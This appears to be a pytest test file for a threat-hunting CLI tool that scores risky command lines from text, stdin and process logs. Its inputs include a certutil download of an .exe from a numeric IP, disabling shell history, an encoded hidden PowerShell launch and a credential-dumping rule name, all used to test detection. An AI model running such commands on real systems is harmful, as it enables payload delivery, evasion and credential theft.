"""`huntkit cmdline`: risky command lines of texts, stdin and evidence."""

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from huntkit.cli.app import app

LINES = "ls -la\nunset HISTFILE\nwhoami\n"


def run(*arguments: object, given: str | None = None):
    return CliRunner().invoke(app, ["cmdline", *map(str, arguments)], input=given)


def answer(*arguments: object, given: str | None = None) -> list[dict]:
    done = run(*arguments, given=given)
    assert done.exit_code == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_given_texts_and_stdin() -> None:
    [row] = answer("--text", "certutil -urlcache -f http://198.51.100.9/a a.exe")
    assert (row["Rule"], row["Severity"], row["Technique"]) == (
        "certutil_download",
        "high",
        "T1105",
    )
    rows = answer("-", given=LINES)
    assert [(row["SourceIndex"], row["Rule"]) for row in rows] == [
        (1, "history_off"),
        (2, "who_am_i"),
    ]
    assert [row["Rule"] for row in answer("-", "--lowest", "high", given=LINES)] == ["history_off"]


def test_nothing_is_said_on_stderr() -> None:
    done = run("--text", "ls")
    assert (done.exit_code, done.stdout) == (0, "")
    assert "nothing risky in 1 command line" in done.stderr


def test_evidence_tells_where_and_when(demo_folder: Path) -> None:
    rows = answer(demo_folder, "--lowest", "high")
    dump = next(row for row in rows if row["Rule"] == "lsass_dump")
    assert dump["Host"] == "lark-ws01.larkspur.example"
    assert dump["TimeGenerated"].startswith("2026-03-03T09:31")
    assert dump["Mentions"] >= 1
    assert any(row["Depth"] > 0 for row in rows)
    assert {row["Severity"] for row in rows} <= {"high", "critical"}


def test_what_started_before_the_log_is_judged_by_what_its_children_tell(tmp_path: Path) -> None:
    start = {
        "Timestamp": "2026-03-03T09:00:00Z",
        "DeviceName": "ws1",
        "ActionType": "ProcessCreated",
        "FileName": "whoami.exe",
        "ProcessCommandLine": "whoami.exe /user",
        "ProcessId": 7,
        "InitiatingProcessFileName": "powershell.exe",
        "InitiatingProcessId": 6,
        "InitiatingProcessCommandLine": "powershell -nop -w hidden -enc ZABpAHIAIABjADoA",
    }
    (tmp_path / "a.ndjson").write_text(json.dumps({**start, "Type": "DeviceProcessEvents"}))
    rows = answer(tmp_path, "--lowest", "medium")
    assert {row["Rule"] for row in rows} == {"powershell_encoded"}
    assert rows[0]["Input"] == start["InitiatingProcessCommandLine"]


def test_evidence_without_command_lines_is_not_called_clean(tmp_path: Path) -> None:
    (tmp_path / "a.ndjson").write_text(json.dumps({"Timestamp": "2026-03-03T09:00:00Z", "a": "b"}))
    done = run(tmp_path)
    assert "there are no command lines to look at" in done.stderr
    assert "nothing risky" not in done.stderr


def test_own_rules(tmp_path: Path) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text(
        "- {id: mine, title: Mine, why: Ours., level: low, technique: T1059, tactic: execution,"
        " program: [ls]}"
    )
    assert [row["Rule"] for row in answer("-", "--rules", path, given=LINES)] == ["mine"]


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        ([], "either PATHS or --text"),
        (["x", "--text", "y"], "either PATHS or --text"),
        (["--text", "x", "--lowest", "severe"], "there is no severity 'severe'"),
        (
            ["--text", "x", "--rules", "nothing.yaml"],
            "nothing.yaml can't be read: No such file or directory",
        ),
    ],
)
def test_wrong_use_is_told(arguments: list[str], told: str) -> None:
    done = run(*arguments)
    assert done.exit_code != 0
    assert told in f"{done.stderr}{done.exception}"
    assert "Errno" not in done.stderr


def test_python_that_does_the_same() -> None:
    done = run("--text", "ls", "--show-python")
    assert "huntkit.extract.command_risks(frame, 'text'" in done.stderr
